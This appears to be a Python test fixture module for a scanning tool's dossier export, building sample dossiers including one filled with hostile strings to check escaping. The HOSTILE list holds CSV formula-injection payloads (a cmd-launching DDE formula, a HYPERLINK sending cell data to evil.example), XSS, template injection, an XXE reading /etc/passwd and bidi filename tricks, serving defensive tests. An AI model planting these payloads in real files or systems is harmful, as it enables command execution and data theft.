"""Dossiers to export: one of a healthy company, and one whose sources write whatever does harm elsewhere."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Any

from core.beside import Beside
from core.cases import Tlp
from core.exports.dossier import Dossier, sheet_of
from core.fingerprints import fingerprint
from core.headlines import Headline
from core.models import Confidence, Fact, Finding, Kind, Outcome, Run, Scan, Severity, Target
from core.verdicts import Judgement, Verdict
from tests.core.samples import (
    NOW,
    TITLES,
    certificates_of_a_healthy_company,
    dns_of_a_healthy_company,
    finding,
    run,
    scan,
)

MADE = datetime(2026, 11, 24, 9, 30, tzinfo=UTC)

FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"press")',
    '"=1+1"',
    "http://evil.example/",
    "mailto:ada@example.com",
    "internal:Sheet1!A1",
)
HOSTILE = (
    *FORMULAS,
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "{{ 7 * 7 }} {% raw %}",
    '#read("/etc/passwd") #panic() $x$ *bold* _em_ `raw` @label <label>',
    "</style><script>1</script>",
    "]]> &lt; &#0; &amp; <!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
    "a|b `code` [link](javascript:alert(1)) ![x](http://evil.example/x.png)\\|",
    "\x1b[31mred\x07 \u202egnp.exe\u2066 \ufeff \x00 \x0b \ufffe",
    "<!channel> <@U0BOB> @everyone",
    "half \ud83d character",
    "long " + "x" * 40_000,
    "[domain-name:value = 'a'] OR [url:value = '\\']",
)


def verdict_on(found: Finding, judgement: Judgement = Judgement.CONFIRMED) -> dict[str, Verdict]:
    mark = fingerprint(found)
    return {mark: Verdict(mark, judgement, "U0BOB", MADE)}


def dossier(*scans: Scan, tlp: Tlp | None = Tlp.AMBER_STRICT, alone: bool = False, **beside: Any) -> Dossier:
    """These scans as a channel may read them."""
    told = Beside(tlp=tlp, **beside)
    sheets = tuple(sheet_of(each, told, alone=alone) for each in scans)
    return Dossier("Scan of example.com", MADE, "U0ADA", sheets, titles=TITLES, tlp=tlp)


def company(**more: Any) -> Dossier:
    """A scan of a healthy company, with what could not be looked at."""
    down = run("whois", Outcome.FAILED, reason="timeout", message="The registry did not answer within 20 s.")
    return dossier(scan(dns_of_a_healthy_company(), certificates_of_a_healthy_company(), down), **more)


def hostile(**more: Any) -> Dossier:
    """Every hostile text as the value of every kind, as an attribute, a context, a source, a message and a headline."""
    kinds: tuple[Kind | Fact, ...] = (*Kind, *Fact)
    found = [
        replace(
            finding("dns", kinds[place % len(kinds)], text, seen=place, why=text, severity=("high", "info")[place % 2]),
            context=text,
        )
        for place, text in enumerate(HOSTILE * 3)
    ]
    found = [replace(each, provenance=replace(each.provenance, source=each.value[:50])) for each in found]
    broken = run("crtsh", Outcome.PARTIAL, message="\n".join(HOSTILE[:4]), reason="changed")
    one = scan(run("dns", Outcome.FOUND, *found), broken, reason=HOSTILE[0], tag=HOSTILE[1])
    loud = Headline("rule", HOSTILE[14], Severity.HIGH, (fingerprint(found[0]),), why=HOSTILE[15])
    return dossier(one, headlines=(loud,), **more)


def many(number: int) -> Dossier:
    """A scan that found so many names."""
    names = [
        replace(
            finding(
                "crtsh", Kind.DOMAIN, f"host-{place}.example.com", seen=place % 700, issuers=["Example Trust CA R3"]
            ),
            first_seen=NOW - timedelta(days=place % 900 + 700),
            confidence=Confidence.LOW if place % 3 else Confidence.HIGH,
        )
        for place in range(number)
    ]
    return dossier(scan(dns_of_a_healthy_company(), run("crtsh", Outcome.FOUND, *names)))


def of_a_person(*, alone: bool) -> Dossier:
    """A scan of an e-mail address, with a breach that a direct message alone shows."""
    target = Target(Kind.EMAIL, "ada-example@example.com")
    secret = finding("haveibeenpwned", Fact.BREACH, "Sensitive Example", direct_only=True, severity="high")
    known = finding("haveibeenpwned", Fact.BREACH, "Open Example", why="ada-example@example.com is in it")
    domain = finding("identity", Kind.DOMAIN, "example.com", role="mail domain")
    one: Scan = scan(
        run("haveibeenpwned", Outcome.FOUND, secret, known), run("identity", Outcome.FOUND, domain), target=target
    )
    return dossier(one, alone=alone)


def runs_of(made: Dossier) -> tuple[Run, ...]:
    return made.sheets[0].scan.runs
